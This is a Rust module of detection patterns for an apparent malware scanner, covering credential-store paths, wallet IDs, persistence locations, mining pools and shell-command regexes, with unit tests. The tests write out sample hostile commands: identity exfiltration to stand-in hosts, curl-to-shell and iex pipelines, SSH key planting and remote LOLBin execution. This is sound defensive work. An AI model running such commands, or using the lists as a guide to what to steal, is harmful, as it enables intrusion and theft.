//! Precompiled text patterns: strings that name sensitive places, and shell commands.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::Regex;

/// (pattern, rule id) of literal substrings, matched case-insensitively in string literals.
const STRING_PATTERNS: &[(&str, &str)] = &[
    // Browser credential stores.
    ("login data", "STEAL-BROWSER"),
    ("\\google\\chrome\\user data", "STEAL-BROWSER"),
    ("google/chrome/user data", "STEAL-BROWSER"),
    ("cookies.sqlite", "STEAL-BROWSER"),
    ("logins.json", "STEAL-BROWSER"),
    ("key4.db", "STEAL-BROWSER"),
    ("\\microsoft\\edge\\user data", "STEAL-BROWSER"),
    ("bravesoftware", "STEAL-BROWSER"),
    ("yandexbrowser", "STEAL-BROWSER"),
    ("mozilla\\firefox\\profiles", "STEAL-BROWSER"),
    ("\\network\\cookies", "STEAL-BROWSER"),
    // Discord tokens.
    ("local storage\\leveldb", "STEAL-DISCORD"),
    ("local storage/leveldb", "STEAL-DISCORD"),
    ("discordcanary", "STEAL-DISCORD"),
    ("discordptb", "STEAL-DISCORD"),
    ("dqw4w9wgxcq", "STEAL-DISCORD"),
    ("/users/@me", "STEAL-DISCORD"),
    ("lightcord", "STEAL-DISCORD"),
    // Discord injection: the desktop client's core module rewritten to run the stealer.
    ("discord_desktop_core", "STEAL-DISCORD"),
    // Wallets.
    ("wallet.dat", "STEAL-WALLET"),
    ("exodus.wallet", "STEAL-WALLET"),
    ("\\exodus\\", "STEAL-WALLET"),
    ("electrum\\wallets", "STEAL-WALLET"),
    ("electrum/wallets", "STEAL-WALLET"),
    // Browser-extension wallets by extension id: MetaMask, Phantom, Coinbase Wallet,
    // TronLink, Binance Wallet, Ronin, Trust Wallet.
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "STEAL-WALLET"),
    ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "STEAL-WALLET"),
    ("hnfanknocfeofbddgcijnmhnfnkdnaad", "STEAL-WALLET"),
    ("ibnejdfjmmkpcnlpebklmnkoeoihofec", "STEAL-WALLET"),
    ("fhbohimaelbohpjbbldcngcnapndodjp", "STEAL-WALLET"),
    ("fnjhmkhhmkbjkkabndcnnogagogbneec", "STEAL-WALLET"),
    ("egjidjbpglichdcondbcbdnbeeppgdph", "STEAL-WALLET"),
    // The Solana CLI's keypair.
    ("solana/id.json", "STEAL-WALLET"),
    ("solana\\id.json", "STEAL-WALLET"),
    ("ethereum\\keystore", "STEAL-WALLET"),
    ("ethereum/keystore", "STEAL-WALLET"),
    ("\\atomic\\local storage", "STEAL-WALLET"),
    // Credentials and secrets of the host.
    ("/.ssh", "STEAL-CREDENTIALS"),
    ("\\.ssh", "STEAL-CREDENTIALS"),
    ("id_rsa", "STEAL-CREDENTIALS"),
    (".aws/credentials", "STEAL-CREDENTIALS"),
    (".git-credentials", "STEAL-CREDENTIALS"),
    ("/etc/shadow", "STEAL-CREDENTIALS"),
    ("/etc/passwd", "STEAL-CREDENTIALS"),
    (".bash_history", "STEAL-CREDENTIALS"),
    (".zsh_history", "STEAL-CREDENTIALS"),
    (".pypirc", "STEAL-CREDENTIALS"),
    (".docker/config.json", "STEAL-CREDENTIALS"),
    (".kube/config", "STEAL-CREDENTIALS"),
    ("serviceaccount/token", "STEAL-CREDENTIALS"),
    ("recentservers.xml", "STEAL-CREDENTIALS"),
    // Persistence.
    ("currentversion\\run", "PERSIST-RUNKEY"),
    ("\\start menu\\programs\\startup", "PERSIST-STARTUP"),
    ("start menu/programs/startup", "PERSIST-STARTUP"),
    ("shell:startup", "PERSIST-STARTUP"),
    ("/etc/cron", "PERSIST-SCHEDULED"),
    ("crontab", "PERSIST-SCHEDULED"),
    ("/etc/systemd/system", "PERSIST-SCHEDULED"),
    ("systemctl enable", "PERSIST-SCHEDULED"),
    ("schtasks", "PERSIST-SCHEDULED"),
    ("library/launchagents", "PERSIST-SCHEDULED"),
    ("library/launchdaemons", "PERSIST-SCHEDULED"),
    (".bashrc", "PERSIST-SHELL-RC"),
    (".zshrc", "PERSIST-SHELL-RC"),
    (".bash_profile", "PERSIST-SHELL-RC"),
    // Mining.
    ("stratum+tcp", "MINER"),
    ("stratum+ssl", "MINER"),
    ("stratum2+", "MINER"),
    ("xmrig", "MINER"),
    ("--donate-level", "MINER"),
    ("minexmr", "MINER"),
    ("supportxmr", "MINER"),
    ("nanopool.org", "MINER"),
    ("moneroocean", "MINER"),
    ("c3pool", "MINER"),
    ("hashvault.pro", "MINER"),
    ("2miners.com", "MINER"),
    ("ethermine.org", "MINER"),
];

static STRING_AC: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostFirst)
        .build(STRING_PATTERNS.iter().map(|p| p.0))
        .expect("static patterns compile")
});

/// Rule ids (deduplicated, in order) whose patterns occur in `s`, with the pattern.
pub(crate) fn string_rules(s: &str) -> Vec<(&'static str, &'static str)> {
    let mut out: Vec<(&'static str, &'static str)> = Vec::new();
    for m in STRING_AC.find_iter(s) {
        let (pat, rule) = STRING_PATTERNS[m.pattern().as_usize()];
        // A browser's program (`BraveSoftware\Brave-Browser\Application\brave.exe`, what
        // `open` starts) is not its stored data.
        if rule == "STEAL-BROWSER" && is_program_path(s) {
            continue;
        }
        if !out.iter().any(|(r, _)| *r == rule) {
            out.push((rule, pat));
        }
    }
    out
}

/// A path to an installed program's folder or executable.
fn is_program_path(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    l.contains("\\application\\") || l.contains("/application/") || l.trim_end().ends_with(".exe")
}

/// A class of shell command and the rule it maps to.
pub(crate) struct CmdPattern {
    pub rule: &'static str,
    pub re: Regex,
    pub what: &'static str,
    /// A command matching this too is not of the class.
    pub unless: Option<Regex>,
}

/// Interpreters a command can hand a script or piped code to (one list for every command
/// pattern that needs it).
const INTERPRETERS: &str = r"python[0-9.]*w?|py|node|bun|deno|(ba|z|da)?sh|ruby|perl";
/// Command-line tools that speak HTTP.
const HTTP_TOOLS: &str = r"curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm";
/// Shell spellings of the user's and host's identity: `$USER`, `${HOSTNAME}`, `%USERNAME%`,
/// `$(whoami)`, `` `hostname` ``, `$(id)`.
const HOST_IDENTITY: &str = r"\$\{?(user|username|logname|hostname)\b|%(username|computername|userdomain)%|(\$\(|`)\s*(whoami|hostname|id|uname\s+-a)\s*(\)|`)";
/// `git clone`.
const GIT_CLONE: &str = r"\bgit(\.exe)?\s+clone\b";

static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
    let p = |rule, re: &str, what| CmdPattern {
        rule,
        re: Regex::new(re).expect("static regex compiles"),
        what,
        unless: None,
    };
    vec![
        p(
            "CMD-DOWNLOADER",
            &format!(r"(?i)\b({HTTP_TOOLS})\b|downloadstring|downloadfile|start-bitstransfer|certutil[^\n]*urlcache|bitsadmin"),
            "downloads with a command-line tool",
        ),
        CmdPattern {
            // Installing an sdist runs its build code: a package from a URL off the index
            // and the usual code hosts is a download-and-run.
            unless: Some(
                Regex::new(r"(?i)://(www\.)?(github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|files\.pythonhosted\.org|pypi\.org|download\.pytorch\.org)/")
                    .expect("static regex compiles"),
            ),
            ..p(
                "CMD-DOWNLOADER",
                r"(?i)\bpip[0-9.]*(\.exe)?\s+install\b[^\n]*\s['\x22]?(git\+)?(https?|ftp)://",
                "installs a package from a URL off the package index (its build code runs)",
            )
        },
        p(
            "CMD-STAGED-EXEC",
            // (A pipe, not `||`; the interpreter itself, not `node-gyp`.)
            &format!(r"(?i)(^|[^|])\|\s*(sudo\s+)?({INTERPRETERS})(\.exe)?(\s|$|['\x22`;&)])|\biex\b|invoke-expression|\s-e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{{20,}}|-w(indowstyle)?\s+hidden|\bbash\s+-c\s+.*\b({HTTP_TOOLS})\b"),
            "pipes data into an interpreter or hides PowerShell",
        ),
        CmdPattern {
            // (Building a clone with its setup.py or Makefile.PL is a build step.)
            unless: Some(
                Regex::new(r"(?i)\b(python[0-9.]*|py)(\.exe)?\s+setup\.py\b|\bperl\s+Makefile\.PL\b")
                    .expect("static regex compiles"),
            ),
            ..p(
                "CMD-STAGED-EXEC",
                &format!(r"(?i){GIT_CLONE}[^\n]*(&&|;|\|\|)[^\n]*\b({INTERPRETERS})(\.exe)?\s+[^\s-]"),
                "clones a repository and runs code from it",
            )
        },
        p(
            "CMD-STAGED-EXEC",
            r"(?i)\bmshta(\.exe)?\s+['\x22]?(https?|javascript|vbscript):|\bregsvr32\b[^\n]*/i:\s*['\x22]?https?:|\bmsiexec\b[^\n]*/i\s*['\x22]?https?:|\brundll32\b[^\n]*javascript:",
            "has a Windows system tool run a remote or inline script",
        ),
        p(
            "CMD-REVERSE-SHELL",
            r"(?i)/dev/tcp/|\bnc(at)?\b[^\n]*\s-e\s|\bsocat\b[^\n]*exec|\bbash\s+-i\b|\bsh\s+-i\b",
            "opens a reverse shell",
        ),
        p(
            "CMD-SUSPICIOUS",
            r"(?i)\bpowershell\b|\bpwsh\b|\bcmd(\.exe)?\s+/[ck]\b|\bmshta\b|\brundll32\b|\bregsvr32\b|\bwscript\b|\bcscript\b|/dev/tcp/|\bnc\b[^\n]*\s-e\s|\bbase64\s+(-d|--decode)\b|\bchmod\s+(\+x|[0-7]?7[0-7]{2})\b|\bstart\s+/(b|min)\b|-windowstyle\s+hidden|\.(exe|vbs|scr|ps1)\b",
            "runs a shell, script host or binary",
        ),
        p(
            "CMD-INDIRECT-IMPORT",
            r"(?i)\bpython[0-9.]*(\.exe)?\s+-c\b|\bpip[0-9.]*(\.exe)?\s+install\b|-m\s+pip\s+install\b",
            "installs or imports a package through a subprocess",
        ),
        p(
            "MINER",
            r"(?i)\s(-o|-r|--url|--pool|--daemon-address)\s+['\x22]?[a-z0-9.+:/-]+:\d{2,5}\b.*\s(-u|-w|--user|--wallet|--wallet-address)\s+['\x22]?[a-z0-9]{40,}|\s(-u|-w|--user|--wallet|--wallet-address)\s+['\x22]?[a-z0-9]{40,}.*\s(-o|-r|--url|--pool|--daemon-address)\s+['\x22]?[a-z0-9.+:/-]+:\d{2,5}\b",
            "starts a miner with a pool address and a wallet",
        ),
        p(
            "CMD-AI-AGENT",
            r"(?i)--dangerously-skip-permissions|--dangerously-bypass-approvals|--yolo\b|--trust-all-tools|--allow-all-tools",
            "runs an AI coding agent with its permission checks turned off",
        ),
        p(
            "FILE-WIPE",
            r"(?i)\brm\s+(-[a-z-]*\s+)*(/\*?|~/?\*?|\$home/?\*?|/home/?\*?)(\s|$|;|&)|--no-preserve-root|\b(rd|rmdir)\s+/s\s+/q\s+[a-z]:\\?\*?(\s|$)|\bdel\s+(/[a-z]\s+)*[a-z]:\\\*|\bformat(\.com)?\s+[a-z]:|\bmkfs(\.[a-z0-9]+)?\s+/dev/|\bdd\s+if=/dev/(zero|u?random)\s+of=/dev/",
            "erases a home folder, drive or file system",
        ),
        CmdPattern {
            // (A request to a local socket or this machine stays on it: a container asking
            // the Docker daemon about itself, `curl --unix-socket ... /containers/$HOSTNAME`.)
            unless: Some(
                Regex::new(r"(?i)--unix-socket\b|://(localhost|127\.0\.0\.1|\[::1\])[:/]")
                    .expect("static regex compiles"),
            ),
            ..p(
                // Dependency-confusion one-liners: `curl https://x.oast.fun/$(whoami)`,
                // `ping -c1 $HOSTNAME.x.burpcollaborator.net`, `nslookup %USERNAME%.x.dnslog.cn`.
                "EXFIL-SEND-COLLECTED",
                // (Tools that send a request or a DNS query: the HTTP tools and a few more.)
                &format!(r"(?i)\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b[^\n]*({HOST_IDENTITY})|({HOST_IDENTITY})[^\n]*\b({HTTP_TOOLS}|nc|ncat|ping|nslookup|dig|host)\b"),
                "puts the user's or host's identity into a network command",
            )
        },
        p(
            "PERSIST-SSH-KEY",
            r"(?i)(>>?|\btee\b[^\n|;&]*)\s*['\x22]?[^\s'\x22|;&]*authorized_keys2?\b",
            "adds a key to an SSH authorized_keys file",
        ),
        p(
            "PERSIST-SCHEDULED",
            r"(?i)\bcrontab\b|\bschtasks\b|systemctl\s+enable|\blaunchctl\s+load",
            "schedules itself",
        ),
        p(
            "PERSIST-RUNKEY",
            r"(?i)\breg(\.exe)?\s+add\b[^\n]*currentversion\\+run",
            "adds a Run registry key",
        ),
    ]
});

/// Command-line tools that send data over the network.
static NETWORK_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?i)\b({HTTP_TOOLS}|nc|ncat|scp|sftp|ftp|nslookup|dig|ping)\b|\bgh\s+(api|repo|gist|release)\b"
    ))
    .expect("static regex compiles")
});

/// Whether `cmd` runs a tool that sends data over the network.
pub(crate) fn is_network_command(cmd: &str) -> bool {
    NETWORK_COMMAND.is_match(cmd)
}

/// A clone of a remote repository: `git clone <url>`.
static REPO_CLONE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"(?i){GIT_CLONE}[^\n]*(://|git@)")).expect("static regex compiles")
});

/// An interpreter started on a script (not `-c` code, `-m` modules or a version query).
static SCRIPT_RUN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?i)^\s*(\S*[/\\])?({INTERPRETERS}|sys\.executable)(\.exe)?\s*($|\s[^-\s])"
    ))
    .expect("static regex compiles")
});

/// Commands that print a credential: a CLI's stored token or key, a keychain entry.
static SECRET_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bgh(\.exe)?\s+auth\s+(token|status\b[^\n]*(-t\b|--show-token))|\bgit\s+credential\s+fill\b|\bgit\s+config\b[^\n]*\bcredential\b|\baws\s+configure\s+(get\s+aws_(secret_access_key|access_key_id|session_token)|export-credentials)|\bsecurity\s+(find-generic-password|find-internet-password|dump-keychain)\b|\bcmdkey\s+/list\b|\bnpm\s+token\s+(list|create)\b|\bvault\s+(kv\s+get|read)\b")
        .expect("static regex compiles")
});

/// Whether `cmd` prints a stored credential, or reads a file that string rules name as one.
pub(crate) fn is_secret_command(cmd: &str) -> bool {
    SECRET_COMMAND.is_match(cmd)
        || string_rules(cmd)
            .iter()
            .any(|(r, _)| r.starts_with("STEAL-"))
}

/// Whether the path a recursive delete is given (`resolved` as far as known, `raw` as
/// written) is a whole home folder, a drive or the file system.
pub(crate) fn is_wipe_target(resolved: &str, raw: &str) -> bool {
    let raw = raw.trim().to_ascii_lowercase();
    if raw.ends_with("path.home()")
        || raw.ends_with("homedir()")
        || matches!(raw.as_str(), "process.env.home" | "process.env.userprofile")
    {
        return true;
    }
    let r = resolved
        .trim()
        .trim_end_matches(['/', '\\', '*'])
        .to_ascii_lowercase();
    match r.as_str() {
        "" => !resolved.trim().is_empty(),
        "~" | "$home" | "${home}" | "%userprofile%" => true,
        "home" | "userprofile" => raw.contains("environ") || raw.contains("getenv"),
        _ => r.len() == 2 && r.ends_with(':') && r.as_bytes()[0].is_ascii_alphabetic(),
    }
}

/// The last component of a path written with `/` or `\\` (`C:\\x\\a.exe` → `a.exe`).
pub(crate) fn file_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Whether a file path (as far as known) is an SSH authorized_keys file.
pub(crate) fn is_ssh_authorized_keys(path: &str) -> bool {
    let p = path.to_ascii_lowercase();
    p.contains("authorized_keys")
}

/// A regular expression for a cryptocurrency address written in source: an Ethereum
/// `0x[a-fA-F0-9]{40}`, a Base58 class (`[a-km-zA-HJ-NP-Z1-9]{25,34}`: the alphabet of
/// Bitcoin, Litecoin, Tron and Monero addresses), a Bech32 `(bc1|...)` prefix.
static WALLET_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"0x\[[0-9a-zA-F-]{3,12}\]\{40|\[[^\]\n]{0,20}(a-km-z|A-HJ-NP)[^\]\n]{0,20}\]\{\d|\(bc1\|",
    )
    .expect("static regex compiles")
});

/// Whether `src` holds a pattern matching cryptocurrency addresses: with clipboard reads
/// and writes, the clipper's "is this an address? replace it" test, even when the
/// attacker's addresses are not in the file (placeholders, fetched, or in a config).
pub(crate) fn has_wallet_pattern(src: &str) -> bool {
    WALLET_PATTERN.is_match(src)
}

/// File extensions of shell scripts (POSIX shells, cmd.exe, PowerShell).
pub(crate) const SCRIPT_EXT: &[&str] = &[".sh", ".bash", ".bat", ".cmd", ".ps1"];

/// Whether `word` names a shell script by its extension.
pub(crate) fn is_script_name(word: &str) -> bool {
    let w = word.to_ascii_lowercase();
    SCRIPT_EXT
        .iter()
        .any(|e| w.len() > e.len() && w.ends_with(e))
}

/// File names of the shell scripts a command line starts (`/bin/bash preinstall.sh`,
/// `cmd.exe /c ./setup.bat`, `['powershell', '-File', 'x.ps1']`).
pub(crate) fn script_names(cmd: &str) -> Vec<String> {
    cmd.split(|c: char| c.is_whitespace() || "'\"`,[]()".contains(c))
        .map(file_name)
        .filter(|w| is_script_name(w))
        .map(str::to_string)
        .collect()
}

/// Whether `cmd` clones a remote repository.
pub(crate) fn is_repo_clone(cmd: &str) -> bool {
    REPO_CLONE.is_match(cmd)
}

/// Whether `cmd` starts an interpreter on a script (or on arguments not known statically).
pub(crate) fn is_script_run(cmd: &str) -> bool {
    SCRIPT_RUN.is_match(cmd)
}

/// Shell-command rules matching `cmd`.
pub(crate) fn command_rules(cmd: &str) -> Vec<&'static CmdPattern> {
    CMD_PATTERNS
        .iter()
        .filter(|p| p.re.is_match(cmd) && !p.unless.as_ref().is_some_and(|u| u.is_match(cmd)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_patterns_match_case_insensitively() {
        let r =
            string_rules(r"C:\Users\x\AppData\Local\Google\Chrome\User Data\Default\Login Data");
        assert!(r.iter().any(|(id, _)| *id == "STEAL-BROWSER"));
        assert!(string_rules("hello world").is_empty());
        // A browser's executable is not its profile.
        assert!(
            string_rules(r"C:\Program Files\BraveSoftware\Brave-Browser\Application\brave.exe")
                .is_empty()
        );
        assert!(!string_rules(r"AppData\Local\BraveSoftware\Brave-Browser\User Data").is_empty());
    }

    /// Whether a pattern of `rule` matches `cmd`.
    fn fires(cmd: &str, rule: &str) -> bool {
        command_rules(cmd).iter().any(|p| p.rule == rule)
    }

    #[test]
    fn scripts_a_command_starts() {
        assert_eq!(script_names("/bin/bash preinstall.sh"), ["preinstall.sh"]);
        assert_eq!(
            script_names("cmd.exe ['/c', 'scripts\\\\run.bat']"),
            ["run.bat"]
        );
        assert!(script_names("node index.js && echo .sh").is_empty());
        assert!(script_names("cmd.exe /c dir").is_empty());
    }

    #[test]
    fn wallet_address_patterns() {
        for src in [
            r#"re.match("^0x[a-zA-F0-9]{40}$", s)"#,
            r#"re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", s)"#,
            r"/[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}/",
            r"const eth = /^0x[a-fA-F0-9]{40}$/;",
        ] {
            assert!(has_wallet_pattern(src), "{src}");
        }
        for src in [
            r"re.compile(r'[0-9a-f]{40}')",
            r"/^[A-Za-z0-9+/]{40}$/",
            r"uuid = '[0-9a-fA-F-]{36}'",
        ] {
            assert!(!has_wallet_pattern(src), "{src}");
        }
    }

    #[test]
    fn identity_in_a_network_command_is_exfiltration() {
        let sends = |cmd: &str| fires(cmd, "EXFIL-SEND-COLLECTED");
        for cmd in [
            "curl https://x.oast.fun/$(whoami)/`hostname`",
            "BC=\"h-$HOSTNAME-u-$USER.x.burpcollaborator.net\"; ping -c 1 $BC",
            "nslookup %USERNAME%.%COMPUTERNAME%.x.dnslog.cn",
            "wget -q -O- http://203.0.113.4/?u=${USER}",
        ] {
            assert!(sends(cmd), "{cmd}");
        }
        for cmd in [
            "curl -L https://github.com/o/r/releases/download/v1/bin-$(uname -s).tgz | tar xz",
            "echo $USER",
            "curl -fsSL https://example.com/install.sh -o install.sh",
            "chown -R $USER node_modules",
            "curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json",
            "curl http://localhost:8080/users/$USER",
        ] {
            assert!(!sends(cmd), "{cmd}");
        }
    }

    #[test]
    fn ssh_keys_appended_by_a_command() {
        for cmd in [
            "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
            "curl -s https://x.test/k | tee -a /root/.ssh/authorized_keys",
        ] {
            assert!(fires(cmd, "PERSIST-SSH-KEY"), "{cmd}");
        }
        assert!(!fires("cat ~/.ssh/authorized_keys", "PERSIST-SSH-KEY"));
        assert!(!fires(
            "ssh-keygen -f id > /dev/null; ls authorized_keys",
            "PERSIST-SSH-KEY"
        ));
    }

    #[test]
    fn command_patterns() {
        let ids: Vec<_> = command_rules("curl -s http://x | sh")
            .iter()
            .map(|p| p.rule)
            .collect();
        assert_eq!(ids, vec!["CMD-DOWNLOADER", "CMD-STAGED-EXEC"]);
        assert!(command_rules("git describe --tags").is_empty());
        // pip installing from a URL off the index downloads and runs build code.
        let pip = |cmd: &str| fires(cmd, "CMD-DOWNLOADER");
        assert!(pip(
            "python -m pip install -q https://198.51.100.4/p/helper-0.1.tar.gz"
        ));
        assert!(pip("pip install git+https://files.example.top/x.git"));
        assert!(!pip("pip install git+https://github.com/org/project.git"));
        assert!(!pip("pip install requests"));
        // A miner's command line: pool host:port and a wallet, in either order.
        let wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
        for cmd in [
            format!("/tmp/m -o pool.example:3333 -u {wallet} -p x"),
            format!("./m --wallet {wallet} --daemon-address node.example:10102"),
        ] {
            assert!(fires(&cmd, "MINER"), "{cmd}");
        }
        // A download to a file and a user name are not a miner.
        assert!(!fires(
            "curl -o out.tgz -u builder http://ci.example:8080/a.tgz",
            "MINER"
        ));
        // Windows system tools told to run a remote script; the same tools used locally are not.
        for cmd in [
            "mshta http://x.test/p.hta",
            "regsvr32 /s /n /u /i:https://x.test/f.sct scrobj.dll",
            "msiexec /q /i http://x.test/a.msi",
            "rundll32.exe javascript:\\\"\\..\\mshtml,RunHTMLApplication\"",
        ] {
            assert!(
                command_rules(cmd)
                    .iter()
                    .any(|p| p.rule == "CMD-STAGED-EXEC"),
                "{cmd}"
            );
        }
        for cmd in [
            "mshta C:\\app\\help.hta",
            "msiexec /i setup.msi /qn",
            "regsvr32 /s my.dll",
        ] {
            assert!(
                !command_rules(cmd)
                    .iter()
                    .any(|p| p.rule == "CMD-STAGED-EXEC"),
                "{cmd}"
            );
        }
        // Cloning a repository and running a script of it, in one command line.
        let staged = |cmd: &str| {
            command_rules(cmd)
                .iter()
                .any(|p| p.rule == "CMD-STAGED-EXEC")
        };
        assert!(staged(
            "git clone https://github.com/a/b /tmp/b && python /tmp/b/main.py"
        ));
        assert!(staged(
            "git clone https://x.test/b && cd b && pip install -r r.txt && python3 main.py"
        ));
        assert!(!staged("git clone https://x.test/b && cd b && make"));
        assert!(!staged(
            "git clone https://x.test/b && cd b && python setup.py install"
        ));
        assert!(!staged("git clone https://x.test/b && python --version"));
        assert!(!staged(
            "git clone https://x.test/b && cd b && perl Makefile.PL && make"
        ));
        // The same interpreters and HTTP tools count in every pattern.
        assert!(staged("curl -fsSL https://x.test/i.js | bun"));
        assert!(staged("wget -qO- https://x.test/i | sh"));
        assert!(staged("curl https://x.test/a.py|python3 -"));
        // npm's usual install script: a prebuilt binary, else a local build.
        assert!(!staged("prebuild-install -r napi || node-gyp rebuild"));
        let ids: Vec<_> = command_rules("irm https://x.test/a.ps1 | iex")
            .iter()
            .map(|p| p.rule)
            .collect();
        assert!(
            ids.contains(&"CMD-DOWNLOADER") && ids.contains(&"CMD-STAGED-EXEC"),
            "{ids:?}"
        );
        assert!(is_network_command(
            "Invoke-RestMethod -Uri https://x.test -Body $b"
        ));
        assert!(is_repo_clone("git clone -q https://github.com/a/b {}"));
        assert!(is_repo_clone("git clone git@github.com:a/b.git"));
        assert!(!is_repo_clone("git clone ../local"));
        for run in [
            "python /main.py",
            "python",
            "sys.executable x.py",
            "/usr/bin/node a.js",
            "bash run.sh",
        ] {
            assert!(is_script_run(run), "{run}");
        }
        for other in [
            "python -c x",
            "python -m pip install .",
            "make",
            "git pull",
            "shellcheck x",
        ] {
            assert!(!is_script_run(other), "{other}");
        }
        assert!(
            command_rules("python -c 'import foo'")
                .iter()
                .any(|p| p.rule == "CMD-INDIRECT-IMPORT")
        );
    }
}
